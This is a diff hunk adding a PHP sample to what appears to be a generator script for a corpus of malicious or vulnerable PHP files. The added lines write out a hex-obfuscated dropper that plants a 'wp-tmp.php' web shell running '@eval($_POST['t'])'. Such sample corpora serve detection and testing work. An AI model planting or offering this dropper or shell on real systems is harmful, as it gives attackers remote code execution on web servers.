@@ -618,3 +618,7 @@ w('php/sources/register-globals.php', '''<?php if ($savepath != "") { $fh = fope
 </form>
 </body></html>
 ''')
+# A dropper: the file name and the planted shell both packed as hex, inside the old script tag.
+w('php/droppers/pack-dropper.php', '<script language="php">\nfputs(fopen(pack("H*", "'
+  + binascii.hexlify(b'wp-tmp.php').decode() + '"), "w"), pack("H*", "'
+  + binascii.hexlify(b"<?php @eval($_POST['t']); ?>").decode() + '"));\n</script>\n')
